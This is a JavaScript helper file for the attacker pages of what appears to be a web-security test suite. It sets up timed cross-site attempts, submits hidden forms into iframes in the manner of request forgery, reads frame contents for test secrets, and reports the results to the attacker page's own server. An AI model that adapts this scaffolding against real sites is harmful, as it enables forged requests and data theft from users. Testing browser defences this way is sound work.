// What every attacking page needs: whom it attacks, a list of attempts with what each got, and the report to
// the attacker's own server.
"use strict";

const options = new URLSearchParams(location.search);
const run = options.get("run");
const portal = `${location.protocol}//${options.get("portal")}`;
const target = `${location.protocol}//${options.get("victim")}.${options.get("portal")}`;

// Where an attempt goes at the target. Its name is in the path, so that the target's server knows it again.
const at = (name, kind) => `${target}/${run}/${name}.${kind}`;

const attempts = [];
const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

// `reads` says whether it gets something where it succeeds. Throwing is getting nothing, and so is waiting.
async function attempt(name, reads, act, patience = Number(options.get("patience") ?? 2_500)) {
  const got = await Promise.race([Promise.resolve().then(act).catch(() => null), pause(patience)]);
  attempts.push({ name, reads, got: got ? String(got) : null });
}

// Only what is secret counts as got.
const secret = (text) => (/7 231 890|identity|nonce|ticket/.test(text ?? "") ? text : null);

async function report() {
  await fetch(`/report?run=${run}`, { method: "POST", body: JSON.stringify(attempts) });
  document.title = "done";
}

// An element that loads something; fails when loading does.
function load(tag, properties) {
  const element = document.createElement(tag);
  const loaded = new Promise((done, failed) => {
    element.onload = () => done(element);
    element.onerror = failed;
  });
  Object.assign(element, properties);
  document.body.append(element);
  return loaded;
}

// An empty frame with a name of its own.
let frames = 0;
function emptyFrame() {
  const frame = document.createElement("iframe");
  frame.name = `frame-${frames += 1}`;
  document.body.append(frame);
  return frame;
}

const loaded = (frame) => new Promise((done) => { frame.onload = () => done(frame); });

// What can be read of a frame: its text, or that it was drawn at all.
function seen(frame) {
  const text = frame.contentDocument?.body?.textContent;
  return secret(text) ?? (frame.contentWindow.length > 0 ? "it was drawn" : null);
}

// Submits a form into a frame and reads what came.
async function submit(action, { method = "post", enctype = "application/x-www-form-urlencoded", fields = {} } = {}) {
  const frame = emptyFrame();
  const form = document.createElement("form");
  Object.assign(form, { method, action, enctype, target: frame.name });
  for (const [name, value] of Object.entries({ amount: "1", ...fields })) {
    const field = document.createElement("input");
    Object.assign(field, { type: "hidden", name, value });
    form.append(field);
  }
  document.body.append(form);
  const arrived = loaded(frame);
  form.submit();
  return seen(await arrived);
}
